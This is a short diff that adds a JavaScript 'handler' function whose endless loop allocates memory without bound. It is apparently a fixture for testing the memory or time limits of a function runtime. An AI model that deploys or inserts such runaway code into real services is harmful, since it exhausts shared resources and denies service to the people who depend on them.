@@ -1,0 +1,6 @@
+function handler(event) {
+    var hoard = [];
+    for (;;) {
+        hoard.push(new Array(4096).fill(hoard.length));
+    }
+}
